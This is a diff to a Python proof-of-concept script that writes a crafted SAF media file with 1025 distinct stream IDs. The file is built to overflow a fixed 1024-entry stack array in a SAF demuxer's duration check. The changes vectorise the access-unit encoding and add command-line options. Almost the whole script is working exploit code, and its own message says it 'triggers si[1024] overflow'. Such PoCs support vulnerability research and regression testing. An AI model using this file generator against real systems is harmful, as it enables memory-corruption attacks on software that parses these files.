@@ -1,9 +1,15 @@
 #!/usr/bin/env python3
+import argparse
+import itertools
 import struct
+import sys
+from array import array
 
 def be16(x): return struct.pack(">H", x & 0xffff)
 def be32(x): return struct.pack(">I", x & 0xffffffff)
 
+AU_LEN = 15  # bytes per AU produced by make_au()
+
 def make_au(stream_id, au_sn=0, rap=1, cts=0, au_type=7, ts_res=1000):
     # Layout expected by safdmx_check_dur():
     # u16: rap(1) + au_sn(15)
@@ -18,13 +24,57 @@ def make_au(stream_id, au_sn=0, rap=1, cts=0, au_type=7, ts_res=1000):
     payload = be16(0) + struct.pack(">I", ts_res)[1:]  # u24
     return be16(first16) + be32(second32) + be16(au_size) + be16(type_stream) + payload
 
+def _derive(fn, n, *cols):
+    # apply fn element-wise; scalar columns stay scalar
+    if all(isinstance(c, int) for c in cols):
+        return fn(*cols)
+    return list(map(fn, *(itertools.repeat(c, n) if isinstance(c, int) else c for c in cols)))
+
+def _fill_column(buf, off, width, values, n):
+    # Write `values` (int or sequence) as big-endian `width`-byte fields at
+    # buf[off::AU_LEN]. Sequences go through one array() + byteswap and
+    # strided slice assignments, so there is no per-AU pack call.
+    if isinstance(values, int):
+        field = values.to_bytes(width, "big")
+        for k in range(width):
+            buf[off + k::AU_LEN] = field[k:k + 1] * n
+        return
+    a = array("H" if width == 2 else "I", values)
+    if len(a) != n:
+        raise ValueError("all AU columns must have the same length")
+    if sys.byteorder == "little":
+        a.byteswap()
+    raw = a.tobytes()
+    item = a.itemsize
+    for k in range(width):
+        buf[off + k::AU_LEN] = raw[item - width + k::item]
+
+def make_au_table(stream_ids, au_sns=0, raps=1, ctss=0, au_types=7, ts_ress=1000) -> bytearray:
+    """Encode len(stream_ids) AUs in one pass. Every other argument is either
+    a scalar applied to all AUs or a sequence of the same length; the bytes
+    are identical to b"".join(make_au(...) for each AU)."""
+    n = len(stream_ids)
+    buf = bytearray(n * AU_LEN)
+    if not n:
+        return buf
+    _fill_column(buf, 0, 2, _derive(lambda r, s: ((r & 1) << 15) | (s & 0x7fff), n, raps, au_sns), n)
+    _fill_column(buf, 2, 4, _derive(lambda c: c & 0x3fffffff, n, ctss), n)
+    _fill_column(buf, 6, 2, 7, n)   # au_size
+    _fill_column(buf, 8, 2, _derive(lambda t, s: ((t & 0xF) << 12) | (s & 0x0fff), n, au_types, stream_ids), n)
+    # bytes 10..11 stay zero
+    _fill_column(buf, 12, 3, _derive(lambda r: r & 0xffffff, n, ts_ress), n)
+    return buf
+
 def main(out="poc_saf_stack_oob_streaminfo.saf", n=1025):
-    data = bytearray()
-    for i in range(n):
-        data += make_au(stream_id=i, au_sn=i & 0x7fff, cts=i)
+    ids = range(n)
+    data = make_au_table(ids, au_sns=[i & 0x7fff for i in ids], ctss=ids)
     with open(out, "wb") as f:
         f.write(data)
     print(f"Wrote {out} ({len(data)} bytes) with {n} distinct stream_ids (triggers si[1024] overflow).")
 
 if __name__ == "__main__":
-    main()
+    ap = argparse.ArgumentParser()
+    ap.add_argument("--out", default="poc_saf_stack_oob_streaminfo.saf")
+    ap.add_argument("-n", "--count", type=int, default=1025, help="number of AUs / stream ids")
+    args = ap.parse_args()
+    main(args.out, args.count)